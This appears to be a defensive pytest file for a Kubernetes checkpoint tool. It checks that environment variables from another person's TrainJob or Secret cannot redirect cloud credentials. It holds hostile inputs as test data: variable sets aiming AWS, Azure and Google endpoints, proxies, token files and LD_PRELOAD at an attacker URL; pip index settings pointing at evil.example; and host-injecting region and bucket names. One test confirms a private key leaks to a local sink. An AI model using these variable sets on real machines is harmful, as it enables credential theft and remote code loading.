"""Someone who may change a TrainJob or a Secret of a namespace, and the machine of a person who looks at the job.

The record of the job and the Secret have variables. On that machine they must not choose files, programs, proxies or
servers: a variable of AWS's tools can name a file whose content is sent to a server that another one names.
"""

import base64
import contextlib
import http.server
import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("lightkube")

from safepoint.cli.claims import from_outside
from safepoint.cli.place import ClusterStorage, _identity
from safepoint.errors import SafepointError, UsageError
from safepoint.jobs.cluster.api import ClusterApi
from safepoint.jobs.cluster.connection import connect_to
from safepoint.jobs.cluster.helper.job_storage import JobStorage, open_directly, secret_values, storage_of
from safepoint.jobs.cluster.spec import RECORD
from safepoint.storage.location import parse_location
from safepoint.storage.opening import open_store
from safepoint.storage.options import StorageOptions
from tests.attacks.test_hostile_clusters import Handler, Server, kubeconfig
from tests.support.cluster.saving_jobs import SavingJob

PRIVATE = "PRIVATE-KEY-OF-THE-USER"


class Sink(http.server.BaseHTTPRequestHandler):
    """The server of the other person."""

    seen: list[str]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode(errors="replace")
        self.seen.append(f"{self.path} {dict(self.headers)} {body}")
        self.send_response(403)
        self.send_header("content-length", "0")
        self.end_headers()

    do_GET = do_PUT = do_HEAD = do_POST  # noqa: N815  their names are the base class's

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  its name is the base class's
        """Write no log."""


@contextlib.contextmanager
def refusing() -> Iterator[tuple[str, list[str]]]:
    """A server that refuses each request; its address, and what it has seen."""
    handler: Any = type("Bound", (Sink,), {"seen": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.seen
    server.shutdown()
    server.server_close()


@pytest.fixture
def sink() -> Iterator[tuple[str, list[str]]]:
    with refusing() as found:
        yield found


@pytest.fixture
def own_store() -> Iterator[str]:
    """The user's own object store."""
    with refusing() as (url, _):
        yield url


@pytest.fixture
def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user with keys of their own, and a private file."""
    for name in [name for name in os.environ if name.startswith(("AWS_", "AZURE_", "GOOGLE_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    path = tmp_path / "id_ed25519"
    path.write_text(PRIVATE)
    return path


def hostile(own: Path, url: str) -> list[dict[str, str]]:
    """Sets of variables, each of which would send something of the user to `url`."""
    role = {"AWS_ROLE_ARN": "arn:aws:iam::1:role/r", "AWS_WEB_IDENTITY_TOKEN_FILE": str(own)}
    return [
        {**role, "AWS_ENDPOINT_URL_STS": url},
        {"AWS_CONTAINER_CREDENTIALS_FULL_URI": url, "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": str(own)},
        {"AWS_ENDPOINT_URL": url},
        {"AWS_S3_ENDPOINT": url},
        {"AWS_ENDPOINT_URL_S3": url, "AWS_SHARED_CREDENTIALS_FILE": str(own)},
        {"HTTPS_PROXY": url, "https_proxy": url, "ALL_PROXY": url},
        {"PYTHONPATH": str(own.parent), "LD_PRELOAD": str(own), "PATH": str(own.parent)},
        {"SAFEPOINT_VERIFY_TLS": "0", "AWS_CA_BUNDLE": str(own), "SSL_CERT_FILE": str(own)},
        {"AZURE_STORAGE_ENDPOINT": url, "azure_storage_endpoint": url, "AZURE_STORAGE_USE_EMULATOR": "true"},
        {"GOOGLE_APPLICATION_CREDENTIALS": str(own), "GOOGLE_BASE_URL": url},
    ]


def storage_with(env: dict[str, str]) -> JobStorage:
    """What counts of a job that another person has submitted with these variables."""
    job = SavingJob(env=env)
    note = job.trainjob["metadata"]["annotations"][RECORD]
    job.trainjob["metadata"]["annotations"][RECORD] = json.dumps({**json.loads(note), "env": env})
    job.trainjob["spec"]["trainer"]["env"] += [{"name": name, "value": text} for name, text in env.items()]
    return storage_of(job.api, job.trainjob)


def changed(before: dict[str, str]) -> dict[str, str]:
    return {name: text for name, text in os.environ.items() if before.get(name) != text}


def use_of(monkeypatch: pytest.MonkeyPatch, api: Any, storage: ClusterStorage) -> dict[str, str]:
    """What a command about checkpoints sets in the environment for a job of a cluster."""
    found: dict[str, str] = {}

    def use_keys(context: Any, keys: Any, env: Any) -> None:
        before = dict(os.environ)
        with _identity(keys, env):
            found.update(changed(before))

    class Opened:
        def __enter__(self) -> Any:
            return api

        def __exit__(self, *exception: object) -> None:
            pass

    monkeypatch.setattr(from_outside, "use_keys", use_keys)
    monkeypatch.setattr("safepoint.cli.cluster_options.cluster_api", lambda on, namespace: Opened())
    from_outside._use_keys_of(None, storage)  # pyright: ignore[reportArgumentType]
    return found


@pytest.mark.parametrize("number", range(10))
def test_of_a_record(
    number: int, own: Path, own_store: str, sink: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither `delete --checkpoints` nor the commands about checkpoints use them here; a pod may."""
    url, seen = sink
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAOWN")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "OWN-SESSION")
    monkeypatch.setenv("AWS_ENDPOINT_URL", own_store)
    if number < 2:
        for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
            monkeypatch.delenv(name)
    env = hostile(own, url)[number]
    storage = storage_with({**env, "AWS_REGION": "eu-west-1"})
    api: Any = None
    inventory = open_directly(api, storage, parse_location("s3://bucket/run"))
    if inventory is not None:
        with pytest.raises(SafepointError):
            list(inventory.store.list(""))
    found = use_of(monkeypatch, api, ClusterStorage(on=".", namespace=None, connection=None, env=storage.env))
    assert found == {"AWS_REGION": "eu-west-1"}
    assert seen == []


@pytest.mark.parametrize("number", range(10))
def test_of_a_secret(
    number: int, own: Path, sink: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Secret of a connection gives keys, with the address at which they count; and nothing else."""
    url, _ = sink
    env = hostile(own, url)[number]
    server = Server()
    data = {name: base64.b64encode(text.encode()).decode() for name, text in env.items()}

    def answer(request: Handler) -> None:
        request.send({"metadata": {"name": "c"}, "data": data})

    server.answers(answer)
    try:
        with ClusterApi(connect_to("c", file=kubeconfig(tmp_path, server.url))) as api:
            assert secret_values(api, "c") == {}
            keys = {"AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b", "AWS_S3_ENDPOINT": "https://s3.example"}
            data.update({name: base64.b64encode(text.encode()).decode() for name, text in keys.items()})
            endpoints = {name: text for name, text in env.items() if name.startswith(("AWS_ENDPOINT_URL", "AWS_S3_"))}
            endpoints.pop("AWS_ENDPOINT_URL_STS", None)
            assert secret_values(api, "c") == {**endpoints, **keys}
            storage = ClusterStorage(on=".", namespace=None, connection="c")
            assert use_of(monkeypatch, api, storage).keys() <= {*keys, *endpoints}
    finally:
        server.close()


def test_the_attack_itself(own: Path, sink: tuple[str, list[str]]) -> None:
    """The variables do what is feared, so the tests above test something."""
    url, seen = sink
    with _identity({}, hostile(own, url)[0]), pytest.raises(SafepointError):
        list(open_store(parse_location("s3://bucket/run")).list(""))
    assert any(PRIVATE in request for request in seen)


HOSTS = (
    "x.evil.example:8443/",
    "evil.example#",
    "evil.example?",
    "a@evil.example",
    "\0",
    "\ud800",
    "us\r\nX-Evil: 1",
)


@pytest.mark.parametrize("text", HOSTS)
@pytest.mark.parametrize("name", ["AWS_REGION", "AWS_DEFAULT_REGION"])
def test_a_region_that_names_another_host(name: str, text: str) -> None:
    """The region is a part of the names of AWS's servers, which receive the keys."""
    with pytest.raises(ValueError, match="region"):
        StorageOptions.from_environment({name: text})


@pytest.mark.parametrize("text", ["evil.example:8443/", "evil.example#", "A", "a" * 25, "a.b"])
def test_an_account_that_names_another_host(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The account is a part of the names of Azure's servers, which receive the token."""
    for name in ("AZURE_STORAGE_ACCOUNT_NAME", "azure_storage_account_name"):
        with monkeypatch.context() as changed_environment:
            changed_environment.setenv(name, text)
            with pytest.raises(UsageError, match="not the name of a storage account"):
                list(open_store(parse_location("az://container/run")).list(""))


@pytest.mark.parametrize("scheme", ["s3", "gs", "az", "pvc"])
@pytest.mark.parametrize(
    "bucket", ["evil.example:8443#", "evil.example?", "a:b", "a\\b", "a b", "-a", "é", "a%2f", "a;b"]
)
def test_a_bucket_that_names_another_host(scheme: str, bucket: str) -> None:
    """The bucket is a part of the name of the server too."""
    with pytest.raises(ValueError, match="invalid (bucket|container|claim) name"):
        parse_location(f"{scheme}://{bucket}/run")


def test_a_record_runs_nothing_in_a_helper(own: Path) -> None:
    """A helper pod has the claim, the keys and the rights of this user: no variable of a record chooses its code."""
    code = {
        "SAFEPOINT_PACKAGES": '["--index-url=https://evil.example", "evil"]',
        "PYTHONPATH": "/claim/evil",
        "LD_PRELOAD": "/claim/evil.so",
        "PATH": "/claim",
        "PIP_INDEX_URL": "https://evil.example",
        "SAFEPOINT_HELPER_ARGUMENTS": "[]",
        "AWS_ENDPOINT_URL": "https://evil.example",
        "HTTPS_PROXY": "http://evil.example",
    }
    kept = {"AWS_REGION": "eu-west-1", "AWS_CA_BUNDLE": "/etc/ca.pem", "SAFEPOINT_VERIFY_TLS": "0"}
    assert storage_with({**code, **kept}).env == kept
